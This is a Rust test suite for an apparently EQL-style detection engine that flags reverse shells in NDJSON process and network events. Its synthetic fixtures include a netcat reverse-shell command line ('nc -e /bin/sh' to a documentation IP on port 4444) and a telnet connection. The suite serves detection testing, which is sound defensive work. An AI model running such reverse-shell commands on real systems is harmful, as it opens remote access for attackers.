//! The detector library end to end with the hand-written seed pack: exact alert sets on
//! generated streams (expectations from the generator's answer key, i.e. from how the
//! stream was built and the rule's semantics), robustness to garbage lines, reordering,
//! max_signals, bounded state under a flood, and the alert document shape.

use std::collections::BTreeSet;

use eqlc_detector::gen::{generate, GenConfig, OsMix, Truth};
use eqlc_detector::handpack::SeedPack;
use eqlc_detector::{Detector, Options, Stats};
use eqlc_runtime::meta::{RuleMeta, Severity};
use eqlc_runtime::{Alert, EventRef, PackStats, Record, RulePack, Value};

mod common;
use common::seed_pair;

type AlertSet = BTreeSet<(String, Vec<String>)>;

fn run_with<P: RulePack>(
    pack: P,
    opts: Options,
    input: &[u8],
    chunk: usize,
) -> (Vec<serde_json::Value>, Stats) {
    let mut out = Vec::new();
    let mut diag = Vec::new();
    let stats = {
        let mut det = Detector::new(pack, opts, &mut out, &mut diag);
        det.begin_source("test");
        for c in input.chunks(chunk.max(1)) {
            det.feed(c);
        }
        det.finish().unwrap()
    };
    let alerts = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).expect("alert lines are JSON"))
        .collect();
    (alerts, stats)
}

fn alert_set(alerts: &[serde_json::Value]) -> AlertSet {
    alerts
        .iter()
        .map(|a| {
            let rule = a["kibana.alert.rule.rule_id"].as_str().unwrap().to_string();
            let ids = a["eqlc.events"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["event"]["id"].as_str().unwrap_or("<missing>").to_string())
                .collect();
            (rule, ids)
        })
        .collect()
}

fn truth_set(t: &Truth) -> AlertSet {
    t.alerts()
        .map(|p| {
            (
                eqlc_detector::gen::SEED_RULE_ID.to_string(),
                p.event_ids.clone(),
            )
        })
        .collect()
}

fn generated(cfg: &GenConfig) -> (Vec<u8>, Truth) {
    let mut out = Vec::new();
    let mut truth = Truth::default();
    generate(cfg, &mut out, Some(&mut truth)).unwrap();
    (out, truth)
}

#[test]
fn committed_sample_gives_exactly_the_planted_shells() {
    let input = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/samples/sample.ndjson"
    ))
    .unwrap();
    let truth: serde_json::Value = serde_json::from_slice(
        &std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/samples/sample.truth.json"
        ))
        .unwrap(),
    )
    .unwrap();
    let want: AlertSet = truth["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                truth["rule_id"].as_str().unwrap().to_string(),
                a["event_ids"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|x| x.as_str().unwrap().to_string())
                    .collect(),
            )
        })
        .collect();
    assert_eq!(want.len(), 13);
    let (alerts, stats) = run_with(SeedPack::new(), Options::default(), &input, 1 << 16);
    assert_eq!(alert_set(&alerts), want);
    assert_eq!(stats.events, 2000);
    assert_eq!(stats.bad_lines, 0);
    assert_eq!(stats.stragglers, 0);
}

#[test]
fn generated_streams_match_the_answer_key() {
    for (seed, os, hosts) in [
        (1, OsMix::Linux, 1),
        (2, OsMix::Linux, 40),
        (3, OsMix::Mixed, 25),
    ] {
        let cfg = GenConfig {
            events: 20_000,
            seed,
            shells: 40,
            near_misses: 45,
            hosts,
            os,
            rate: 100.0,
            ..GenConfig::default()
        };
        let (input, truth) = generated(&cfg);
        assert_eq!(truth.alerts().count(), 40);
        // odd chunk sizes: lines spanning chunks
        let (alerts, stats) = run_with(SeedPack::new(), Options::default(), &input, 4093);
        assert_eq!(alert_set(&alerts), truth_set(&truth), "seed {seed}");
        assert_eq!(stats.events, 20_000);
        assert_eq!(stats.total_alerts(), 40);
        assert_eq!(stats.bad_lines, 0);
    }
}

/// Interleave garbage: invalid JSON, invalid UTF-8, an overlong line, bad timestamps,
/// wrong types, blank lines and CRLF endings.
fn with_garbage(input: &[u8], max_line: usize) -> (Vec<u8>, u64) {
    let garbage: Vec<Vec<u8>> = vec![
        b"{not json".to_vec(),
        b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"a\":[1,2}".to_vec(),
        b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"host\":{\"name\":\"\xff\xfe\"}}".to_vec(),
        {
            let mut l = b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"pad\":\"".to_vec();
            l.extend(std::iter::repeat_n(b'x', max_line + 10));
            l.extend_from_slice(b"\"}");
            l
        },
        b"{\"@timestamp\":\"not a date\",\"event\":{\"id\":\"x\"}}".to_vec(),
        b"{\"event\":{\"id\":\"no-ts\"}}".to_vec(),
        b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"process\":{\"args_count\":\"three\"}}"
            .to_vec(),
        b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"destination\":{\"ip\":\"not-an-ip\"}}"
            .to_vec(),
        b"[1,2,3]".to_vec(),
    ];
    let n_bad = garbage.len() as u64;
    let mut out = Vec::new();
    let mut g = 0;
    for (i, line) in input
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .enumerate()
    {
        if i % 97 == 3 {
            out.extend_from_slice(&garbage[g % garbage.len()]);
            out.push(b'\n');
            g += 1;
        }
        if i % 101 == 5 {
            out.extend_from_slice(b"   \n");
        }
        out.extend_from_slice(line);
        if i % 2 == 0 {
            out.push(b'\r');
        }
        out.push(b'\n');
    }
    let _ = n_bad;
    (out, g as u64)
}

#[test]
fn garbage_lines_are_counted_and_lose_no_alert() {
    let cfg = GenConfig {
        events: 10_000,
        seed: 11,
        shells: 26,
        near_misses: 28,
        hosts: 10,
        ..GenConfig::default()
    };
    let (input, truth) = generated(&cfg);
    let max_line = 8 * 1024;
    let (dirty, n_garbage) = with_garbage(&input, max_line);
    let opts = Options {
        max_line_bytes: max_line,
        ..Options::default()
    };
    let (clean_alerts, _) = run_with(SeedPack::new(), opts.clone(), &input, 1 << 16);
    let (alerts, stats) = run_with(SeedPack::new(), opts, &dirty, 777);
    assert_eq!(alert_set(&alerts), truth_set(&truth));
    // the same alerts, down to the deterministic uuids
    let uuids = |a: &[serde_json::Value]| {
        a.iter()
            .map(|a| a["kibana.alert.uuid"].clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(uuids(&alerts), uuids(&clean_alerts));
    assert_eq!(stats.events, 10_000);
    assert_eq!(stats.bad_lines, n_garbage);
    assert!(stats.bad_json > 0 && stats.bad_utf8 > 0 && stats.bad_too_long > 0);
    assert!(stats.bad_timestamp > 0 && stats.bad_type > 0);
}

#[test]
fn a_byte_order_mark_opens_an_input_only() {
    let cfg = GenConfig {
        events: 300,
        seed: 5,
        shells: 3,
        hosts: 2,
        ..GenConfig::default()
    };
    let (input, truth) = generated(&cfg);
    let bom = b"\xEF\xBB\xBF";
    // split the mark itself across chunks: the line, not the read, decides
    let with_bom = [&bom[..], &input].concat();
    let (alerts, stats) = run_with(SeedPack::new(), Options::default(), &with_bom, 2);
    assert_eq!(alert_set(&alerts), truth_set(&truth));
    assert_eq!((stats.events, stats.bad_lines), (300, 0));
    // inside the stream a mark is not JSON: that line is bad, the others are not
    let second = input.iter().position(|&c| c == b'\n').unwrap() + 1;
    let inside = [&input[..second], &bom[..], &input[second..]].concat();
    let (_, stats) = run_with(SeedPack::new(), Options::default(), &inside, 1 << 16);
    assert_eq!((stats.events, stats.bad_lines), (299, 1));
}

#[test]
fn bad_lines_are_reported_with_line_numbers_rate_limited() {
    let mut input = Vec::new();
    for i in 0..3000 {
        if i == 1 {
            input.extend_from_slice(
                b"{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"event\":{\"id\":\"ok\"}}\n",
            );
        }
        input.extend_from_slice(b"garbage\n");
    }
    let mut out = Vec::new();
    let mut diag = Vec::new();
    {
        let mut det = Detector::new(SeedPack::new(), Options::default(), &mut out, &mut diag);
        det.begin_source("input.ndjson");
        det.feed(&input);
        let s = det.finish().unwrap();
        assert_eq!(s.bad_lines, 3000);
        assert_eq!(s.events, 1);
    }
    let diag = String::from_utf8(diag).unwrap();
    let lines: Vec<&str> = diag.lines().collect();
    // first 20, then #1000, #2000, #3000
    assert_eq!(lines.len(), 23, "{diag}");
    assert!(
        lines[0].contains("input.ndjson:1: bad line skipped: invalid JSON"),
        "{}",
        lines[0]
    );
    assert!(lines[1].contains("input.ndjson:3:"), "{}", lines[1]);
    assert!(lines[20].contains("[bad line #1000]"));
}

#[test]
fn reorder_window_restores_order_and_counts_stragglers() {
    let cfg = GenConfig {
        events: 8000,
        seed: 5,
        shells: 20,
        near_misses: 20,
        hosts: 6,
        rate: 500.0,
        ..GenConfig::default()
    };
    let (input, truth) = generated(&cfg);
    // swap neighbouring lines pairwise (times differ by a few ms at most)
    let lines: Vec<&[u8]> = input
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .collect();
    let mut shuffled = Vec::new();
    for pair in lines.chunks(2) {
        for l in pair.iter().rev() {
            shuffled.extend_from_slice(l);
            shuffled.push(b'\n');
        }
    }
    let opts = Options {
        reorder_window_ns: 2_000_000_000,
        ..Options::default()
    };
    let (alerts, stats) = run_with(SeedPack::new(), opts, &shuffled, 1 << 16);
    assert_eq!(alert_set(&alerts), truth_set(&truth));
    assert_eq!(stats.stragglers, 0);
    assert_eq!(stats.events, 8000);

    // without a window, every swapped pair with distinct times loses one event
    let (_, stats0) = run_with(SeedPack::new(), Options::default(), &shuffled, 1 << 16);
    assert!(stats0.stragglers > 1000);
    assert_eq!(stats0.events + stats0.stragglers, 8000);

    // an event far older than the window is a straggler even with the window
    let mut late = input.clone();
    late.extend_from_slice(lines[10]);
    late.push(b'\n');
    let opts = Options {
        reorder_window_ns: 2_000_000_000,
        ..Options::default()
    };
    let (_, stats) = run_with(SeedPack::new(), opts, &late, 1 << 16);
    assert_eq!(stats.stragglers, 1);
    assert_eq!(stats.events, 8000);
}

/// An event rule: every event whose `event.action` is `alert-me`.
struct EchoPack;

static ECHO_RULES: &[RuleMeta] = &[RuleMeta {
    name: "Echo",
    rule_id: "echo-0001",
    description: "test",
    severity: Severity::Low,
    risk_score: 21,
    tags: &["Test"],
    max_signals: 3,
    interval_ns: 60_000_000_000,
    from: "now-6m",
    note: "",
    setup: "",
    references: &[],
    threat: &[],
    index: &[],
}];

impl RulePack for EchoPack {
    fn fields(&self) -> &'static [&'static str] {
        &["event.action"]
    }
    fn rules(&self) -> &'static [RuleMeta] {
        ECHO_RULES
    }
    fn on_event<R: Record + ?Sized>(
        &mut self,
        rec: &R,
        ev: EventRef,
        out: &mut dyn FnMut(Alert<'_>),
    ) {
        if rec.values(0).any(|v| v == Value::Str("alert-me")) {
            out(Alert {
                rule: 0,
                events: &[Some(ev)],
                group_id: None,
                key: None,
            });
        }
    }
    fn flush(&mut self, _out: &mut dyn FnMut(Alert<'_>)) {}
    fn stats(&self) -> PackStats {
        PackStats::default()
    }
}

#[test]
fn max_signals_per_rule_interval_of_event_time() {
    // 5 alerts in minute 0, 2 in minute 1, 4 in minute 3 → 3 + 2 + 3 written
    let mut input = String::new();
    for (sec, n) in [(0, 5), (60, 2), (180, 4)] {
        for i in 0..n {
            input.push_str(&format!(
                "{{\"@timestamp\":\"2024-05-01T00:{:02}:{:02}Z\",\"event\":{{\"action\":\"alert-me\",\"id\":\"{sec}-{i}\"}}}}\n",
                (sec + i) / 60,
                (sec + i) % 60
            ));
        }
    }
    let (alerts, stats) = run_with(EchoPack, Options::default(), input.as_bytes(), 100);
    assert_eq!(stats.alerts, vec![8]);
    assert_eq!(stats.suppressed, vec![3]);
    let ids: Vec<&str> = alerts
        .iter()
        .map(|a| a["eqlc.events"][0]["event"]["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        ["0-0", "0-1", "0-2", "60-0", "60-1", "180-0", "180-1", "180-2"]
    );
    // event alerts carry no group id
    assert!(alerts[0].get("kibana.alert.group.id").is_none());
}

#[test]
fn alert_document_shape() {
    let input = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/samples/sample.ndjson"
    ))
    .unwrap();
    let (alerts, _) = run_with(SeedPack::new(), Options::default(), &input, 1 << 20);
    let a = &alerts[0];
    assert_eq!(a["event.kind"], "signal");
    assert_eq!(
        a["kibana.alert.rule.rule_id"],
        "76e4d92b-61c1-4a95-ab61-5fd94179a1ee"
    );
    assert_eq!(
        a["kibana.alert.rule.name"],
        "Potential Reverse Shell via Suspicious Child Process"
    );
    assert_eq!(a["kibana.alert.rule.severity"], "medium");
    assert_eq!(a["kibana.alert.rule.risk_score"], 47);
    assert_eq!(a["kibana.alert.rule.tags"][1], "OS: Linux");
    let th = &a["kibana.alert.rule.threat"];
    assert_eq!(th[0]["framework"], "MITRE ATT&CK");
    assert_eq!(th[0]["tactic"]["id"], "TA0002");
    assert_eq!(th[0]["technique"][0]["id"], "T1059");
    assert_eq!(th[0]["technique"][0]["subtechnique"][0]["id"], "T1059.004");
    assert_eq!(th[1]["tactic"]["name"], "Command and Control");
    assert!(a["kibana.alert.group.id"].as_str().unwrap().len() == 16);
    assert!(a["kibana.alert.reason"]
        .as_str()
        .unwrap()
        .contains("created medium alert"));
    let evs = a["eqlc.events"].as_array().unwrap();
    assert_eq!(evs.len(), 2);
    assert_eq!(
        a["@timestamp"],
        evs[1]["@timestamp"]
            .as_str()
            .map(|s| {
                // event times are whole milliseconds (a `date` keeps milliseconds)
                let t = eqlc_runtime::time::parse_rfc3339(s)
                    .unwrap()
                    .div_euclid(1_000_000)
                    * 1_000_000;
                let mut o = String::new();
                eqlc_runtime::time::format_rfc3339(t, &mut o).unwrap();
                o
            })
            .unwrap()
    );
    assert_eq!(
        eqlc_runtime::time::parse_rfc3339(a["kibana.alert.original_time"].as_str().unwrap()),
        eqlc_runtime::time::parse_rfc3339(evs[0]["@timestamp"].as_str().unwrap())
            .map(|t| t.div_euclid(1_000_000) * 1_000_000)
    );
    // the source documents are embedded byte for byte
    let out_line = {
        let mut out = Vec::new();
        let mut det = Detector::new(
            SeedPack::new(),
            Options::default(),
            &mut out,
            std::io::sink(),
        );
        det.feed(&input);
        det.finish().unwrap();
        String::from_utf8(out).unwrap()
    };
    let first_id = evs[0]["event"]["id"].as_str().unwrap();
    let raw = String::from_utf8(input.clone())
        .unwrap()
        .lines()
        .find(|l| l.contains(&format!("\"id\":\"{first_id}\"")))
        .unwrap()
        .to_string();
    assert!(out_line.contains(&raw));
    // a replay gives the same uuids
    let (again, _) = run_with(SeedPack::new(), Options::default(), &input, 999);
    assert_eq!(alerts, again);
}

#[test]
fn table_format_names_host_chain_and_destination() {
    let input = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/samples/sample.ndjson"
    ))
    .unwrap();
    let mut out = Vec::new();
    let opts = Options {
        format: eqlc_detector::Format::Table,
        ..Options::default()
    };
    {
        let mut det = Detector::new(SeedPack::new(), opts, &mut out, std::io::sink());
        det.feed(&input);
        det.finish().unwrap();
    }
    let text = String::from_utf8(out).unwrap();
    let first = text.split("\n\n").next().unwrap();
    assert!(first.contains("MEDIUM"), "{first}");
    assert!(first.contains("Potential Reverse Shell via Suspicious Child Process"));
    assert!(first.contains("    host     "));
    assert!(first.contains(" → "), "{first}");
    assert!(first.contains("    dest     "), "{first}");
    assert_eq!(text.matches("Potential Reverse Shell").count(), 13);
}

#[test]
fn flood_of_unique_entities_is_bounded_and_evictions_are_reported() {
    // 1,000,000 stage-one events with unique process.entity_id, all within 1 s, then the
    // network events of the last 100 of them: with room for 10,000 partials, the oldest
    // 990,000 are evicted, and the last 100 still alert.
    const N: u64 = if cfg!(debug_assertions) {
        100_000
    } else {
        1_000_000
    };
    let exec = |i: u64| {
        format!(
            "{{\"@timestamp\":\"2024-05-01T00:00:00.{:09}Z\",\"event\":{{\"category\":[\"process\"],\"type\":[\"start\"],\"action\":\"exec\",\"id\":\"e{i}\"}},\"host\":{{\"id\":\"h1\",\"os\":{{\"type\":\"linux\"}}}},\"process\":{{\"entity_id\":\"ent-{i}\",\"name\":\"nc\",\"args\":[\"nc\",\"-e\",\"/bin/sh\",\"203.0.113.1\",\"4444\"],\"args_count\":5,\"parent\":{{\"name\":\"bash\"}}}}}}\n",
            i * 100
        )
    };
    let connect = |i: u64, t: u64| {
        format!(
            "{{\"@timestamp\":\"2024-05-01T00:00:00.{t:09}Z\",\"event\":{{\"category\":[\"network\"],\"type\":[\"start\"],\"action\":\"connection_attempted\",\"id\":\"n{i}\"}},\"host\":{{\"id\":\"h1\",\"os\":{{\"type\":\"linux\"}}}},\"process\":{{\"entity_id\":\"ent-{i}\",\"name\":\"nc\"}},\"destination\":{{\"ip\":\"203.0.113.1\",\"port\":4444}}}}\n"
        )
    };
    let mut out = Vec::new();
    let mut det = Detector::new(
        SeedPack::with_capacity(10_000),
        Options::default(),
        &mut out,
        std::io::sink(),
    );
    let mut buf = String::new();
    for i in 0..N {
        buf.push_str(&exec(i));
        if buf.len() > 1 << 20 {
            det.feed(buf.as_bytes());
            buf.clear();
        }
    }
    for (k, i) in (N - 100..N).enumerate() {
        buf.push_str(&connect(i, 100_000_000 + k as u64));
    }
    // and one for an evicted entity: no alert
    buf.push_str(&connect(0, 200_000_000));
    det.feed(buf.as_bytes());
    let s = det.finish().unwrap();
    drop(det);
    assert_eq!(s.events, N + 101);
    assert_eq!(s.pack.evictions, N - 10_000);
    assert_eq!(s.total_alerts(), 100);
    assert!(s.pack.pending <= 10_000);
    // every alert still has both source lines (the line store covers 64 MiB)
    assert_eq!(s.lost_lines, 0);
    let text = String::from_utf8(out).unwrap();
    assert_eq!(text.lines().count(), 100);
    assert!(!text.contains("null"));
}

#[test]
fn evicted_source_lines_are_counted_not_silent() {
    // a tiny line store: the first event of a sequence is gone when it completes
    let exec = "{\"@timestamp\":\"2024-05-01T00:00:00Z\",\"event\":{\"category\":[\"process\"],\"type\":[\"start\"],\"action\":\"exec\",\"id\":\"first\"},\"host\":{\"id\":\"h\",\"os\":{\"type\":\"linux\"}},\"process\":{\"entity_id\":\"e\",\"name\":\"telnet\",\"args\":[\"telnet\",\"203.0.113.9\",\"23\"],\"args_count\":3,\"parent\":{\"name\":\"sh\"}}}\n";
    let filler = "{\"@timestamp\":\"2024-05-01T00:00:00.1Z\",\"event\":{\"action\":\"x\"},\"pad\":\"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\"}\n";
    let net = "{\"@timestamp\":\"2024-05-01T00:00:00.5Z\",\"event\":{\"category\":[\"network\"],\"type\":[\"start\"],\"action\":\"connection_attempted\",\"id\":\"second\"},\"host\":{\"id\":\"h\",\"os\":{\"type\":\"linux\"}},\"process\":{\"entity_id\":\"e\",\"name\":\"telnet\"},\"destination\":{\"ip\":\"203.0.113.9\"}}\n";
    let mut input = exec.to_string();
    for _ in 0..100 {
        input.push_str(filler);
    }
    input.push_str(net);
    let opts = Options {
        keep_bytes: 1024,
        max_line_bytes: 512,
        ..Options::default()
    };
    let (alerts, stats) = run_with(SeedPack::new(), opts, input.as_bytes(), 1 << 16);
    assert_eq!(alerts.len(), 1);
    assert!(alerts[0]["eqlc.events"][0].is_null());
    assert_eq!(alerts[0]["eqlc.events"][1]["event"]["id"], "second");
    assert_eq!(stats.lost_lines, 1);
}

#[test]
fn event_times_are_whole_milliseconds() {
    // eql-semantics.md §6: `@timestamp` is a `date`, kept in milliseconds. Two events in
    // the same millisecond are simultaneous, so the second is not out of order (and the
    // tie keeps arrival order: exec, then connection)...
    let input = seed_pair("2024-05-01T00:00:00.0009Z", "2024-05-01T00:00:00.0001Z");
    let (alerts, stats) = run_with(SeedPack::new(), Options::default(), input.as_bytes(), 64);
    assert_eq!(stats.stragglers, 0);
    let want: AlertSet = [(
        eqlc_detector::gen::SEED_RULE_ID.to_string(),
        vec!["e1".to_string(), "e2".to_string()],
    )]
    .into();
    assert_eq!(alert_set(&alerts), want);
    // ... and `maxspan=1s` (inclusive) measures 1000 ms between .0004 and 1.0009
    let input = seed_pair("2024-05-01T00:00:00.0004Z", "2024-05-01T00:00:01.0009Z");
    let (alerts, _) = run_with(SeedPack::new(), Options::default(), input.as_bytes(), 64);
    assert_eq!(alert_set(&alerts), want);
    // one millisecond more is past it
    let input = seed_pair("2024-05-01T00:00:00.0004Z", "2024-05-01T00:00:01.0019Z");
    let (alerts, _) = run_with(SeedPack::new(), Options::default(), input.as_bytes(), 64);
    assert!(alerts.is_empty());
}

#[test]
fn the_line_limit_does_not_count_the_cr_of_crlf() {
    // a line of exactly the limit is accepted with either line ending, in one chunk or
    // split across chunks anywhere; one byte more is too long
    let pair = seed_pair("2024-05-01T00:00:00Z", "2024-05-01T00:00:00.5Z");
    let exec = pair.lines().next().unwrap();
    let max = exec.len();
    for (ending, chunk) in [("\n", 1 << 16), ("\r\n", 1 << 16), ("\r\n", 7), ("\r\n", 1)] {
        let input = pair.replace('\n', ending);
        let opts = Options {
            max_line_bytes: max,
            ..Options::default()
        };
        let (alerts, stats) = run_with(SeedPack::new(), opts, input.as_bytes(), chunk);
        assert_eq!(
            (stats.bad_lines, alerts.len()),
            (0, 1),
            "{ending:?} {chunk}"
        );
        let opts = Options {
            max_line_bytes: max - 1,
            ..Options::default()
        };
        let (_, stats) = run_with(SeedPack::new(), opts, input.as_bytes(), chunk);
        assert_eq!(stats.bad_too_long, 1, "{ending:?} {chunk}");
    }
}
